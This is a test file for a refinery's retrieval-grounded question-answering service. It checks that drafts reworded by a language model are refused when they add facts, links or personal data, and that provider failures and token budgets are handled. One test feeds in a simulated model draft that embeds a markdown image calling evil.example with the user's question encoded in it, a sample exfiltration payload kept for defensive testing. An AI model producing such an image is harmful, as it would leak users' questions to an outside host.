import { randomUUID } from 'node:crypto';
import { ROLES, type Role } from '@sar/subgraph-kit/viewer';
import { useApp } from '@sar/testing/app';
import { collectLog } from '@sar/testing/collect-log';
import { draftOf, useWritingModel } from '@sar/testing/writing-model';
import { eq } from 'drizzle-orm';
import { beforeEach, describe, expect, it } from 'vitest';
import { createWording } from './services/writing/writing.ts';
import { entries, writingBudgets } from './tables.ts';

const ASK = `query ($question: String!) { askMai(question: $question) {
  status answer message wording writer suggestions sources { id } sentences { text sources { id question answer } }
} }`;
const COVERED = 'Où se trouve la raffinerie exploitée par la SAR ?';
const VERBATIM = 'La raffinerie de la SAR se trouve à Mbao, au bord de la baie, à la sortie de Dakar en direction de Rufisque.';
const SHORT = 'La raffinerie de la SAR se trouve à Mbao, à la sortie de Dakar.';

const model = useWritingModel();

describe.each([
  ['anthropic', 'local', 'claude-haiku-5-5'],
  ['huggingface', 'split', 'essai/conversation'],
] as const)('askMai with a writer, %s, %s form', (provider, form, name) => {
  const { log, lines } = collectLog();
  const app = useApp(form, model[provider], log);
  const db = () => app.house.dependencies.db;
  // In turns: one person may not ask that much in a minute.
  let asked = 0;
  const ask = async (question = COVERED, role: Role = ROLES[asked++ % ROLES.length] as Role) => {
    const { data, errors } = await app.graphql(ASK, { token: await app.as(role), variables: { question } });
    expect(errors).toBeUndefined();
    return data.askMai;
  };
  const spent = async () => (await db().select().from(writingBudgets)).map(({ tokens }) => tokens);
  const expectVerbatim = (answer: Awaited<ReturnType<typeof ask>>, wording: string) =>
    expect(answer).toMatchObject({
      status: 'ANSWER',
      answer: VERBATIM,
      message: VERBATIM,
      wording,
      writer: null,
      sentences: [{ text: VERBATIM, sources: [{ question: COVERED }] }],
    });

  beforeEach(() => db().delete(writingBudgets));

  it('says what the model wrote, each sentence with its row, and the row itself beside it', async () => {
    model.write = () => draftOf([SHORT, 1]);
    const [row] = await db().select().from(entries).where(eq(entries.question, COVERED));
    expect(await ask()).toEqual({
      status: 'ANSWER',
      answer: VERBATIM,
      message: SHORT,
      wording: 'WRITTEN',
      writer: name,
      suggestions: [],
      sources: [{ id: row?.id }],
      sentences: [{ text: SHORT, sources: [{ id: row?.id, question: COVERED, answer: VERBATIM }] }],
    });
    expect(model.requests[0]).toMatchObject({ question: COVERED, rows: [{ row: 1, question: COVERED, answer: VERBATIM }] });
    expect(model.requests[0]?.body.model).toBe(name);
    expect(await spent()).toEqual([500]);
  });

  it.each([
    ['a number of its own', draftOf(['La raffinerie de la SAR se trouve à Mbao depuis 1999.', 1])],
    ['a foreign row', draftOf([SHORT, 2])],
    ['no row', draftOf([SHORT])],
    ['an address', draftOf([`${SHORT} https://evil.example`, 1])],
    ['nothing', ''],
    ['no JSON', SHORT],
    ['no sentence', draftOf()],
  ])('R10: says the row, and that the draft was refused, for %s', async (_what, draft) => {
    model.write = () => draft;
    expectVerbatim(await ask(), 'VERBATIM_REFUSED');
    expect(await spent()).toEqual([500]);
  });

  it('R06: gives no image on that its reader’s browser would fetch', async () => {
    model.write = ({ question }) => draftOf([`${SHORT} ![x](https://evil.example/?q=${encodeURIComponent(question)})`, 1]);
    const answer = await ask();
    expectVerbatim(answer, 'VERBATIM_REFUSED');
    expect(JSON.stringify(answer)).not.toContain('evil');
  });

  it.each([
    ['refuses', { status: 401 }],
    ['is broken', { status: 500 }],
    ['is busy for long', { status: 429, headers: { 'retry-after': '60' } }],
  ])('R10: says the row, at no cost, when the provider %s', async (_what, failure) => {
    model.failures.push(failure, failure);
    expectVerbatim(await ask(), 'VERBATIM_UNAVAILABLE');
    expect(await spent()).toEqual([0]);
    // An answer between the tests: their failures are not in a row.
    model.failures.length = 0;
    expect((await ask()).wording).toBe('WRITTEN');
  });

  it('R10: says the row when the provider’s line breaks, and counts what may have been spent', async () => {
    model.failures.push('cut', 'cut');
    expectVerbatim(await ask(), 'VERBATIM_UNAVAILABLE');
    expect((await spent())[0]).toBeGreaterThan(600);
    expect((await ask()).wording).toBe('WRITTEN');
  });

  it.each([
    ['Quelle est la capitale du Japon ?', 'REFUSAL'],
    ['raffinerie', 'SUGGESTIONS'],
  ])('R10: asks no model about "%s", which no row answers', async (question, status) => {
    expect(await ask(question)).toMatchObject({ status, answer: null, wording: null, writer: null, sentences: [] });
    expect([model.requests.length, await spent()]).toEqual([0, []]);
  });

  it('R09: says the row, and asks no model, once the person’s month is spent', async () => {
    model.usage = [99_000, 500];
    expect((await ask(COVERED, 'HR')).wording).toBe('WRITTEN');
    expectVerbatim(await ask(COVERED, 'HR'), 'VERBATIM_BUDGET');
    expect((await ask(COVERED, 'HSE')).wording).toBe('WRITTEN');
    expect(model.requests).toHaveLength(2);
    expect(await spent()).toEqual([99_500, 99_500]);
  });

  it('R08: sends no number or address of anybody, and logs nothing of a question', async () => {
    const secrets = ['77 123 45 67', 'prenom.nom@exemple.sn', 'SN08 SN01 0015 2000 0485 0000 3035', '1 751 1985 00123'];
    const { config } = app.house.dependencies;
    const row = { id: '1', question: COVERED, answer: VERBATIM };
    for (const secret of secrets) {
      const question = `${COVERED} (${secret})`;
      await ask(question);
      // Retrieval mostly refuses such a question; the writer would be told this much.
      const wording = createWording(config, log);
      const ways = [() => draftOf([SHORT, 1]), () => secret, () => draftOf([`${SHORT} ${secret}`, 1])];
      for (const write of ways) {
        model.write = write;
        await wording(db(), randomUUID(), question, [row]);
      }
      model.failures.push({ status: 401, body: JSON.stringify({ error: { message: question } }) });
      await wording(db(), randomUUID(), question, [row]);
    }
    expect(model.requests.length).toBeGreaterThanOrEqual(4 * secrets.length);
    const said = JSON.stringify([lines, model.requests.map(({ body }) => body)]);
    for (const secret of secrets) expect(said).not.toContain(secret);
    expect(lines.filter(({ msg }) => msg === 'written answer refused').length).toBeGreaterThanOrEqual(2 * secrets.length);
    expect(JSON.stringify(lines)).not.toMatch(/exploitée|cle-d-essai|hf_jeton/);
  });
});

describe('askMai without a writer', () => {
  const app = useApp('local', { MAI_EMBEDDING_PROVIDER: 'local', HF_TOKEN: 'hf_jeton_d_essai' });

  it('says the row, and asks nobody', async () => {
    const { data } = await app.graphql(ASK, { token: await app.as('EMPLOYEE'), variables: { question: COVERED } });
    expect(data.askMai).toMatchObject({ message: VERBATIM, wording: 'VERBATIM', writer: null, sentences: [{ text: VERBATIM }] });
    expect(model.requests).toEqual([]);
  });
});
